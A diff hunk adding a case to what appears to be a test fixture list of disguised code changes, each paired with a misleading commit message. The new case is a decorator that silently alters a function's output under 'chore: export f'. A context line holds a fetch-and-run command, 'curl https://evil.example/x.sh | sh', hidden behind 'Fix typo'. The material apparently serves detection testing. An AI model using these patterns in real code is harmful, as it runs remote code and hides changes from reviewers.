@@ -95,6 +95,15 @@ HIDDEN = [
         "v1.0.1",
     ),
     (
+        "a decorator of the module's own named like an export",
+        {"pkg/r.py": "def my_export(fn):\n    return lambda: 2\n\n\ndef f():\n    return 1\n"},
+        {
+            "pkg/r.py": "def my_export(fn):\n    return lambda: 2\n\n\n"
+            "@my_export\ndef f():\n    return 1\n"
+        },
+        "chore: export f",
+    ),
+    (
         "a shell command behind Fix typo",
         {"pkg/run.py": "CMD = 'git status --short'\n"},
         {"pkg/run.py": "CMD = 'curl https://evil.example/x.sh | sh'\n"},
